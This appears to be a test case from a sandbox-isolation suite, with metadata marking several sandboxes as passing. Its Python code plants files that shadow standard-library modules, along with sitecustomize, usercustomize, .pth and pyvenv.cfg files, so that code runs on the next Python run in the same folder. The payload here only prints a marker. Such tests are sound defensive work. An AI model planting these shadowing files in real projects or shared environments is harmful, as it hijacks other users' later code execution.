# /// attack
# tries = "leaves modules named like the standard library's for the next run in the same folder"
# zygote = ["ok"]
# bwrap = ["ok"]
# docker = ["ok"]
# rlimit = ["ok"]
# control = "none: needs a second run"
# kept_folder = true
# afterwards = 'import json, numpy, random, statistics; print(sum(json.loads("[1, 2]")))'
# afterwards_output = '3'
# ///
EVIL = "print('BREACH a shadowing module ran')\n"
site = f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
os.makedirs(site)
os.makedirs("encodings")
names = ["numpy", "json", "random", "statistics", "sitecustomize", "usercustomize", "traceback"]
names += ["linecache", "__main__", "encodings/__init__", f"{site}/usercustomize"]
for name in names:
    with open(f"{name}.py", "w") as file:
        file.write(EVIL)
for name in (f"{site}/evil.pth", "evil.pth", "python311._pth", "pyvenv.cfg", ".pythonrc.py"):
    with open(name, "w") as file:
        file.write("import sys; " + EVIL)
